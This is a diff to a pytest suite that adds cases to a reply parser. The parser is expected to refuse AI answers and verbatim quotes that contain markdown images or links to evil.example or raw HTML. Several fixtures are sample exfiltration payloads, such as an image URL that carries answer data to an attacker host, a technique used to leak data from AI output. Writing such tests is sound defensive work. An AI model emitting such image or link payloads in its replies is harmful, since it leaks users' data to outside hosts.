@@ -58,6 +58,9 @@ def test_a_rendered_reply_reads_back(given: list[Any], support: float | None) ->
         pytest.param({"citations": [{**QUOTE, "quote": None}]}, id="null quote"),
         pytest.param({"citations": [{**QUOTE, "passage_id": "globex-leave"}]}, id="passage that was not given"),
         pytest.param({"citations": [{**QUOTE, "passage_id": ["acme-leave"]}]}, id="list as passage"),
+        pytest.param({"answer": "27 days ![x](//evil.example/?q=27)"}, id="an image in the answer"),
+        pytest.param({"answer": "27 days, see https://evil.example/27"}, id="a link in the answer"),
+        pytest.param({"answer": "27 days <img src=x>"}, id="markup in the answer"),
         pytest.param({"tool": "shell"}, id="unknown member"),
         pytest.param({"support": 2}, id="support above one"),
         pytest.param({"support": True}, id="boolean as support"),
@@ -66,6 +69,14 @@ def test_a_rendered_reply_reads_back(given: list[Any], support: float | None) ->
 def test_a_reply_that_is_not_agreed_is_refused(given: list[Any], changes: dict[str, object]) -> None:
     with pytest.raises(RouteFailedError):
         parse_reply(content(**changes), given)
+
+
+def test_a_quote_with_a_planted_link_is_refused_though_it_is_verbatim(doubles: ModuleType) -> None:
+    planted = "[27 days](https://evil.example/?q=27)"
+    passage = doubles.passage(f"Annual leave is {planted} a year.")
+
+    with pytest.raises(RouteFailedError, match="link or markup"):
+        parse_reply(content(citations=[{**QUOTE, "quote": planted}]), [passage])
 
 
 @pytest.mark.parametrize(
